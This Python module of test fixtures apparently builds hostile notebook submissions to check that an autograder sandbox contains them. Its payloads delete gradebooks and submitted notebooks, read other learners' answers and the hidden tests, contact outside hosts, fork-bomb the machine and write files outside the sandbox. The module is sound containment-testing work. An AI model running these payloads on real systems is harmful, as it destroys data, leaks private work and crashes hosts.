"""Hostile submissions: learner code that attacks the grading machine (the sandbox must contain all of it).

Each builder takes the solved notebook (a dict) and the absolute path of the course folder — the
strongest attacker knows where the trainer keeps it — and returns the attack, placed in the first
answer cell before the correct answer, so a contained attack still leaves a gradable notebook.
"""

from __future__ import annotations

ROOTS = "[COURSE, '/tmp', '/var/tmp', '/root', '/home', os.path.expanduser('~'), '/work', '/']"


def _attack(nb: dict, code: str, course: str) -> dict:
    cell = next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "answer_co_quan")
    source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
    cell["source"] = f"import os, glob, shutil\nCOURSE = {course!r}\n{code}\n{source}"
    return nb


def search_and_delete(nb: dict, course: str) -> dict:
    """Walk the disk by absolute paths; delete every gradebook and every submitted notebook found."""
    code = (f"for root in {ROOTS}:\n"
            "    for path in glob.glob(os.path.join(root, '**', 'gradebook.db'), recursive=True)[:50]:\n"
            "        try:\n            os.remove(path); print('đã xóa', path)\n        except OSError as e:\n"
            "            print('không xóa được', path, e)\n"
            "    for path in glob.glob(os.path.join(root, '**', 'submitted', '*'), recursive=True)[:50]:\n"
            "        shutil.rmtree(path, ignore_errors=True)\n"
            "for name in ('gradebook.db', 'submitted', 'source', 'autograded'):\n"
            "    target = os.path.join(COURSE, name)\n"
            "    shutil.rmtree(target, ignore_errors=True) if os.path.isdir(target) else None\n"
            "    try:\n        os.remove(target)\n    except OSError:\n        pass")
    return _attack(nb, code, course)


def read_other_answers(nb: dict, course: str) -> dict:
    """Print every notebook and gradebook it can find (another learner's answers, the hidden tests)."""
    code = ("found = []\n"
            "for pattern in ('**/*.ipynb', '**/gradebook.db', '**/submitted/**'):\n"
            "    found += glob.glob(os.path.join(COURSE, pattern), recursive=True)\n"
            "    found += glob.glob(os.path.join('/tmp', pattern), recursive=True)\n"
            "    found += glob.glob(os.path.join('/var/tmp', pattern), recursive=True)\n"
            "for path in found[:40]:\n"
            "    try:\n        print(path, open(path, errors='replace').read()[:20000])\n"
            "    except OSError as e:\n        print(path, e)\n"
            "for pid in os.listdir('/proc'):\n"
            "    try:\n        print(pid, os.readlink(f'/proc/{pid}/cwd'))\n    except OSError:\n        pass")
    return _attack(nb, code, course)


def network(nb: dict, course: str, port: int) -> dict:
    """Reach the trainer's machine and the internet."""
    code = ("import socket\n"
            f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 80), ('8.8.8.8', 53)]:\n"
            "    try:\n        socket.create_connection(address, timeout=2).sendall(b'bi hack')\n"
            "        print('kết nối được', address)\n"
            "    except OSError as e:\n        print('không kết nối được', address, e)")
    return _attack(nb, code, course)


def fork_bomb(nb: dict, course: str) -> dict:
    """Fork until the machine falls over."""
    return _attack(nb, "children = 0\ntry:\n    while True:\n        os.fork()\n        children += 1\n"
                       "except OSError as e:\n    print('dừng ở', children, e)", course)


def write_outside(nb: dict, course: str) -> dict:
    """Write where grading must not let it: the course folder, the host's /tmp, the home folder."""
    code = ("for path in [os.path.join(COURSE, 'bi_hack.txt'), '/tmp/ailab_bi_hack.txt', '/var/tmp/ailab_bi_hack.txt',\n"
            "             os.path.expanduser('~/ailab_bi_hack.txt'), os.path.join(COURSE, 'source', 'bi_hack.txt')]:\n"
            "    try:\n        open(path, 'w').write('bi hack'); print('ghi được', path)\n"
            "    except OSError as e:\n        print('không ghi được', path, e)")
    return _attack(nb, code, course)


OUTSIDE_MARKERS = ("/tmp/ailab_bi_hack.txt", "/var/tmp/ailab_bi_hack.txt")
